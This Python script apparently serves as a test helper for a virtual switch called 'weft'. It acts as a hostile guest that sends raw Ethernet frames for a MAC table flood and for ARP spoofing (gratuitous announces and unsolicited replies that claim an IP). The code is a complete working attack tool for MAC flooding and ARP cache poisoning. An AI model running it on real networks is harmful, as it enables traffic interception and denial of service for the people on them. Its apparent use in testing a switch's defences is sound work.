#!/usr/bin/env python3
"""What a hostile guest on weft's LAN sends, from inside its network namespace, on a raw
AF_PACKET socket bound to its interface (the frames leave through its TAP to weft's switch).

  lan-attack.py --iface tap0 flood COUNT
      COUNT frames, each from a random source MAC to a random unknown unicast MAC (a MAC table
      flood); prints "sent N".
  lan-attack.py --iface tap0 arp MODE SENDER_IP [DST_MAC [TARGET_IP]]
      an ARP from this interface's MAC claiming SENDER_IP: MODE "announce" (a broadcast gratuitous
      request, sender = target) or "reply" (an unsolicited reply, unicast to DST_MAC).
"""
import argparse
import os
import socket
import struct
import sys

ETH_P_ARP = 0x0806
EXPERIMENTAL = 0x88B5
BROADCAST = b"\xff" * 6


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


def ip_bytes(text):
    return socket.inet_aton(text)


def random_unicast_mac():
    b = bytearray(os.urandom(6))
    b[0] = (b[0] & 0xFC) | 0x02  # locally administered, unicast
    return bytes(b)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--iface", required=True)
    sub = p.add_subparsers(dest="cmd", required=True)
    f = sub.add_parser("flood")
    f.add_argument("count", type=int)
    a = sub.add_parser("arp")
    a.add_argument("mode", choices=["announce", "reply"])
    a.add_argument("sender_ip")
    a.add_argument("dst_mac", nargs="?", default="ff:ff:ff:ff:ff:ff")
    a.add_argument("target_ip", nargs="?")
    args = p.parse_args()

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((args.iface, 0))
    own = s.getsockname()[4]

    if args.cmd == "flood":
        payload = b"\x00" * 46
        sent = 0
        for _ in range(args.count):
            frame = random_unicast_mac() + random_unicast_mac() + struct.pack("!H", EXPERIMENTAL) + payload
            try:
                s.send(frame)
                sent += 1
            except BlockingIOError:
                pass
            except OSError as e:  # ENOBUFS: the TAP's queue is full; a flood loses frames too
                if e.errno != 105:
                    raise
        print(f"sent {sent}")
        return 0

    dst = mac_bytes(args.dst_mac)
    sender_ip = ip_bytes(args.sender_ip)
    if args.mode == "announce":
        op, target_mac, target_ip = 1, b"\x00" * 6, sender_ip
    else:
        op, target_mac, target_ip = 2, dst, ip_bytes(args.target_ip or args.sender_ip)
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + own + sender_ip + target_mac + target_ip
    frame = dst + own + struct.pack("!H", ETH_P_ARP) + arp
    s.send(frame.ljust(60, b"\x00"))
    print("sent 1")
    return 0


if __name__ == "__main__":
    sys.exit(main())
